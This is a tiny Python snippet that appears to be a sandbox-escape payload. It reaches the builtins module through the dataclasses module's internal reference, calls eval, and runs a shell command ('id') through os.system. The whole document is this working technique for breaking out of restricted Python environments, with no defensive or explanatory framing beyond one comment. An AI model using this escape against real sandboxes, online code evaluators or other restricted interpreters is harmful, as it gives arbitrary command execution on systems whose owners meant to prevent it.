# dataclasses keeps a reference to the builtins module.
import dataclasses

dataclasses.builtins.eval("__import__('os').system('id')")
